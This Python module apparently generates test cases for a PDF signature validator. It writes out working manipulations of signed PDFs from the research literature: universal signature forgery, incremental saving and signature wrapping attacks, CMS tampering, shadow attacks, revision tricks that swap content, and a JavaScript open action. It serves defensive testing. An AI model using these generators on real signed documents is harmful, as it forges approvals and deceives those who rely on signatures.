"""Manipulations of signed PDFs by the families of the literature: made here, byte by byte, because an attacker does not
use a writer that keeps the rules.

Mladenov et al. 2019 (USF, ISA, SWA), Mainka et al. 2021 (shadow attacks), Rohlmann et al. 2021 (certification).
"""

from __future__ import annotations

import re
from collections.abc import Callable
from io import BytesIO

from asn1crypto import cms, core
from pyhanko.pdf_utils import generic
from pyhanko.pdf_utils.generic import pdf_name
from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter

Attack = Callable[[bytes], bytes]

EVIL_PAGE = b"<< /Length 41 >>\nstream\nBT /F1 12 Tf 72 720 Td (999-KL/TU) Tj ET  \nendstream"
PAGE_CONTENT = 4
"""Number of the page's content stream in ``pki_factory.minimal_pdf``."""


def gap(data: bytes, number: int = -1) -> tuple[int, int]:
    """Where the brackets of a signature's Contents stand: offset of ``<``, offset behind ``>``."""
    found = list(re.finditer(rb"/ByteRange ?\[0 (\d+) (\d+) (\d+)", data))[number]
    return int(found[1]), int(found[2])


def with_contents(data: bytes, change: Callable[[cms.ContentInfo], cms.ContentInfo | None]) -> bytes:
    """The file with its last signature's CMS changed; the room stays as large as it was."""
    start, end = gap(data)
    room = bytes.fromhex(data[start + 1 : end - 1].decode())
    info = cms.ContentInfo.load(room)
    new = (change(info) or info).dump(force=True)
    assert len(new) <= len(room), "no room for a larger structure"
    return data[: start + 1] + new.ljust(len(room), b"\0").hex().encode() + data[end - 1 :]


def updated(data: bytes, change: Callable[[IncrementalPdfFileWriter], None]) -> bytes:
    """One more revision, written as the standard asks for."""
    writer = IncrementalPdfFileWriter(BytesIO(data))
    change(writer)
    output = BytesIO()
    writer.write(output)  # type: ignore[no-untyped-call]
    return output.getvalue()


def appended(
    data: bytes, objects: dict[int, bytes], *, table: bool = True, trailer: bool = True, extra: bytes = b"",
    point: dict[int, int] | None = None, root: bytes = b"", mark: bool = True,
) -> bytes:  # fmt: skip
    """Objects behind the end, with the parts of an update that the variant has.

    Args:
        objects: body by number. table, trailer, mark: write the cross-reference table, the trailer, ``%%EOF``.
        extra: entries of the trailer. point: numbers that the table leads to offsets of old bytes. root: other catalog.
    """
    previous = int(re.findall(rb"startxref\s+(\d+)", data)[-1])
    root = root or re.findall(rb"/Root (\d+ \d+ R)", data)[-1]
    offsets = dict(point or {})
    for number, body in objects.items():
        offsets[number] = len(data)
        data += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    start = len(data)
    if table:
        data += b"xref\n" + b"".join(b"%d 1\n%010d 00000 n \n" % item for item in sorted(offsets.items()))
    if trailer:
        size = max([*offsets, *(int(item) - 1 for item in re.findall(rb"/Size (\d+)", data))]) + 1
        data += b"trailer\n<< /Size %d /Root %s /Prev %d %s >>\n" % (size, root, previous, extra)
    if table:
        data += b"startxref\n%d\n" % start
    return data + (b"%%EOF\n" if mark else b"")


def signature_object(data: bytes) -> tuple[int, bytes]:
    """Number and body of the last signature's dictionary."""
    found = list(re.finditer(rb"(\d+) 0 obj\s*(<<(?:(?!endobj).)*?/ByteRange.*?)\s*endobj", data, re.DOTALL))[
        -1
    ]
    return int(found[1]), found[2]


def override_signature(change: Callable[[bytes], bytes]) -> Attack:
    """The signature's dictionary written anew in an update."""

    def attack(data: bytes) -> bytes:
        number, body = signature_object(data)
        new = change(body)
        assert new != body
        return appended(data, {number: new})

    return attack


def in_place(old: bytes, new: bytes) -> Attack:
    """Bytes of the signature's dictionary exchanged where they stand."""

    def attack(data: bytes) -> bytes:
        start = data.rindex(old)
        return data[:start] + new + data[start + len(old) :]

    return attack


def _contents(value: bytes) -> Callable[[bytes], bytes]:
    return lambda body: re.sub(rb"/Contents\s*<[0-9A-Fa-f]*>", value, body)


def _byte_range(value: bytes) -> Callable[[bytes], bytes]:
    return lambda body: re.sub(rb"/ByteRange ?\[[^\]]*\]", value, body)


USF: dict[str, Attack] = {
    "Contents left out": override_signature(_contents(b"")),
    "Contents null": override_signature(_contents(b"/Contents null")),
    "Contents empty": override_signature(_contents(b"/Contents <>")),
    "Contents one zero": override_signature(_contents(b"/Contents <00>")),
    "ByteRange left out": override_signature(_byte_range(b"")),
    "ByteRange null": override_signature(_byte_range(b"/ByteRange null")),
    "ByteRange of nothing": override_signature(_byte_range(b"/ByteRange [0 0 0 0]")),
    "ByteRange negative": override_signature(_byte_range(b"/ByteRange [0 -1 -1 -1]")),
    "Contents renamed in place": in_place(b"/Contents <30", b"/Contentz <30"),
    "ByteRange renamed in place": in_place(b"/ByteRange [", b"/ByteRangx ["),
}


def _isa(*, signature: bool = False, **parts: bool) -> Attack:
    def attack(data: bytes) -> bytes:
        objects = {PAGE_CONTENT: EVIL_PAGE}
        if signature:
            number, body = signature_object(data)
            objects[number] = body
        return appended(data, objects, **parts)  # type: ignore[arg-type]

    return attack


ISA: dict[str, Attack] = {
    "whole update": _isa(),
    "objects alone": _isa(table=False, trailer=False),
    "objects and end mark missing": _isa(table=False, trailer=False, mark=False),
    "table without trailer": _isa(trailer=False),
    "trailer without table": _isa(table=False),
    "with a copy of the signature": _isa(signature=True),
    "copy of the signature, no table": _isa(signature=True, table=False),
    "copy of the signature, no trailer": _isa(signature=True, trailer=False),
    "no end mark": _isa(mark=False),
    "empty table": lambda data: appended(data + b"4 0 obj\n%s\nendobj\n" % EVIL_PAGE, {}),
}


def _wrapped(*, before: bytes = b"", inside: bool = False, padding: int = 0) -> Attack:
    """The signed rest moved back, and in its old place a cross-reference that leads to objects which nobody signed.

    The signed end of the file says where the table begins, so that the attacker writes his own there.
    """

    def attack(data: bytes) -> bytes:
        start, end = gap(data)
        rest = data[end:]
        table_at = int(re.findall(rb"startxref\s+(\d+)", rest)[-1])
        place = table_at + 900 + padding
        head = data[:start] + data[start : end - 1 if inside else end]
        head += (before % place) if before else b""
        evil = (head + b"4 0 obj\n%s\nendobj\n" % EVIL_PAGE).ljust(table_at)
        assert len(evil) == table_at, "no room before the table"
        offsets = {
            int(item[1]): item.start() for item in re.finditer(rb"(\d+) 0 obj", evil.ljust(place) + rest)
        }
        table = b"xref\n" + b"".join(b"%d 1\n%010d 00000 n \n" % item for item in sorted(offsets.items()))
        table += b"trailer\n<< /Size 60 /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % table_at
        return (evil + table).ljust(place) + rest

    return attack


SWA: dict[str, Attack] = {
    "objects in the gap": _wrapped(),
    "a second ByteRange in the gap": _wrapped(before=b" /ByteRange [0 1 %08d 1] "),
    "objects inside the brackets": _wrapped(inside=True),
    "padding behind the objects": _wrapped(padding=2_000),
    "the dictionary closed in the gap": _wrapped(before=b" >>\nendobj\n%% %08d \n"),
}
"""The last signed piece of ``startxref`` still stands at the end: what the reader finds first."""


def _two_signers(info: cms.ContentInfo) -> None:
    signer = info["content"]["signer_infos"][0]
    other = signer.copy()
    other["signature"] = b"\x01" + signer["signature"].native[1:]
    info["content"]["signer_infos"] = cms.SignerInfos([signer, other])
    certificates = list(info["content"]["certificates"])[:1]
    info["content"]["certificates"] = cms.CertificateSet(certificates)


def _enclosed(content: bytes) -> Callable[[cms.ContentInfo], None]:
    def change(info: cms.ContentInfo) -> None:
        info["content"]["encap_content_info"] = cms.ContentInfo(
            {"content_type": "data", "content": core.OctetString(content)}
        )

    return change


def _no_certificate(info: cms.ContentInfo) -> None:
    info["content"]["certificates"] = cms.CertificateSet([])


CMS: dict[str, Attack] = {
    "content enclosed": lambda data: with_contents(data, _enclosed(b"noi dung")),
    "another PDF enclosed": lambda data: with_contents(data, _enclosed(b"%PDF-1.4\n1 0 obj<<>>endobj\n%%EOF")),
    "two signers": lambda data: with_contents(data, _two_signers),
    "certificates taken out": lambda data: with_contents(data, _no_certificate),
    "no CMS at all": lambda data: data[: gap(data)[0] + 1] + b"ff" * 40 + data[gap(data)[0] + 81 :],
    "cut off": lambda data: data[: gap(data)[0] + 400] + b"0" * (gap(data)[1] - gap(data)[0] - 401)
    + data[gap(data)[1] - 1 :],
}  # fmt: skip


def _new_page(writer: IncrementalPdfFileWriter) -> None:
    pages = writer.root["/Pages"]
    page = generic.DictionaryObject(
        {
            pdf_name("/Type"): pdf_name("/Page"),
            pdf_name("/Parent"): writer.root.raw_get("/Pages"),
            pdf_name("/MediaBox"): generic.ArrayObject([generic.NumberObject(n) for n in (0, 0, 595, 842)]),
        }
    )
    pages["/Kids"].append(writer.add_object(page))
    pages[pdf_name("/Count")] = generic.NumberObject(2)
    writer.update_container(pages)


def _no_page(writer: IncrementalPdfFileWriter) -> None:
    pages = writer.root["/Pages"]
    pages[pdf_name("/Kids")] = generic.ArrayObject()
    pages[pdf_name("/Count")] = generic.NumberObject(0)
    writer.update_container(pages)


def _annotation(
    subtype: str, rectangle: tuple[int, int, int, int]
) -> Callable[[IncrementalPdfFileWriter], None]:
    def change(writer: IncrementalPdfFileWriter) -> None:
        page = writer.root["/Pages"]["/Kids"][0]
        appearance = writer.add_object(generic.StreamObject(stream_data=b"1 g 0 0 500 50 re f"))
        note = generic.DictionaryObject(
            {
                pdf_name("/Type"): pdf_name("/Annot"),
                pdf_name("/Subtype"): pdf_name(subtype),
                pdf_name("/Rect"): generic.ArrayObject([generic.NumberObject(n) for n in rectangle]),
                pdf_name("/Contents"): generic.pdf_string("So 999-KL/TU"),
                pdf_name("/AP"): generic.DictionaryObject({pdf_name("/N"): appearance}),
            }
        )
        annotations = generic.ArrayObject(page.get("/Annots", ()))
        annotations.append(writer.add_object(note))
        page[pdf_name("/Annots")] = annotations
        writer.update_container(page)

    return change


annotated = _annotation("/FreeText", (60, 700, 400, 740))
"""An annotation over the line that was signed."""


def _catalog(entry: str, value: generic.PdfObject) -> Callable[[IncrementalPdfFileWriter], None]:
    def change(writer: IncrementalPdfFileWriter) -> None:
        writer.root[pdf_name(entry)] = value
        writer.update_root()  # type: ignore[no-untyped-call]

    return change


_SCRIPT = generic.DictionaryObject(
    {pdf_name("/S"): pdf_name("/JavaScript"), pdf_name("/JS"): generic.pdf_string("app.alert(1)")}
)

REVISIONS: dict[str, Attack] = {
    "page added": lambda data: updated(data, _new_page),
    "page removed": lambda data: updated(data, _no_page),
    "annotation over the text": lambda data: updated(data, annotated),
    "stamp over the text": lambda data: updated(data, _annotation("/Stamp", (60, 700, 400, 740))),
    "redaction": lambda data: updated(data, _annotation("/Redact", (60, 700, 400, 740))),
    "script when opened": lambda data: updated(data, _catalog("/OpenAction", _SCRIPT)),
    "other catalog": lambda data: appended(data, {50: b"<< /Type /Catalog /Pages 2 0 R >>"}, root=b"50 0 R"),
    "reason replaced": override_signature(lambda body: body.replace(b"(Phe duyet)", b"(Da huy bo)")),
    "reason replaced in place": in_place(b"(Phe duyet)", b"(Da huy bo)"),
}

ANOMALIES: dict[str, Attack] = {
    "ranges overlap": override_signature(_byte_range(b"/ByteRange [0 900 800 900]")),
    "six numbers": override_signature(_byte_range(b"/ByteRange [0 9 20 9 40 9]")),
    "behind the end": override_signature(_byte_range(b"/ByteRange [0 900 1000 99999999]")),
    "not from the beginning": in_place(b"/ByteRange [0 ", b"/ByteRange [1 "),
    "second before the first": override_signature(_byte_range(b"/ByteRange [900 100 0 800]")),
    "no integers": override_signature(_byte_range(b"/ByteRange [0 (a) 9.5 /x]")),
}

LOOPS: dict[str, Attack] = {
    "Prev leads to itself": lambda data: appended(data, {50: b"null"}).replace(
        b"/Prev %d  >>" % int(re.findall(rb"startxref\s+(\d+)", data)[-1]),
        b"/Prev %d  >>" % (len(data) + len(b"50 0 obj\nnull\nendobj\n")),
    ),
    "pages are their own kids": lambda data: appended(data, {2: b"<< /Type /Pages /Kids [2 0 R] /Count 1 >>"}),
    "fields are their own kids": lambda data: appended(
        data, {50: b"<< /T (a) /Kids [50 0 R] >>",
               51: b"<< /Type /Catalog /Pages 2 0 R /AcroForm << /Fields [50 0 R] /SigFlags 3 >> >>"},
        root=b"51 0 R",
    ),
    "a reference to itself": lambda data: appended(data, {2: b"2 0 R"}),
    "a length that is its own stream": lambda data: appended(
        data, {4: b"<< /Length 4 0 R >>\nstream\nBT ET\nendstream"}
    ),
}  # fmt: skip


def shadow_pdf(plain: bytes) -> bytes:
    """A document prepared by who will have it signed: under the numbers of content and pages lie others, unseen.

    Args:
        plain: of ``pki_factory.minimal_pdf``; its own content and pages become what is hidden.
    """
    shown = {
        2: b"<< /Type /Pages /Kids [22 0 R] /Count 1 >>",
        4: b"<< /Length 31 >>\nstream\nBT /F1 12 Tf (160-KL/TU) Tj ET  \nendstream",
        21: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        22: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R"
        b" /Resources << /Font << /F1 5 0 R >> >> >>",
    }
    return appended(plain, shown)


SHADOW: dict[str, Attack] = {
    "hidden content led to by the table": lambda data: appended(data, {}, point={4: data.index(b"4 0 obj")}),
    "hidden pages shown by the catalog": lambda data: appended(
        data, {int(re.findall(rb"/Root (\d+)", data)[-1]): b"<< /Type /Catalog /Pages 21 0 R >>"}
    ),
    "hidden pages under the old number": lambda data: appended(data, {}, point={2: data.index(b"2 0 obj")}),
    "overlay taken away": lambda data: appended(data, {4: b"<< /Length 0 >>\nstream\n\nendstream"}),
    "content set free": lambda data: _freed(data, 4),
    "font exchanged": lambda data: appended(
        data, {5: b"<< /Type /Font /Subtype /Type1 /BaseFont /Symbol /Encoding << /Differences [49 /nine] >> >>"}
    ),
    "font set free": lambda data: _freed(data, 5),
}  # fmt: skip


def _freed(data: bytes, number: int) -> bytes:
    """An update that declares an object free: what it showed is gone."""
    previous = int(re.findall(rb"startxref\s+(\d+)", data)[-1])
    root, size = re.findall(rb"/Root (\d+ \d+ R)", data)[-1], max(map(int, re.findall(rb"/Size (\d+)", data)))
    table = b"xref\n%d 1\n0000000000 00001 f \n" % number
    trailer = b"trailer\n<< /Size %d /Root %s /Prev %d >>\nstartxref\n%d\n" % (
        size,
        root,
        previous,
        len(data),
    )
    return data + table + trailer + b"%%EOF\n"


FAMILIES: dict[str, dict[str, Attack]] = {
    "USF": USF,
    "ISA": ISA,
    "SWA": SWA,
    "CMS": CMS,
    "revision": REVISIONS,
    "ByteRange": ANOMALIES,
    "loop": LOOPS,
    "shadow": SHADOW,
}
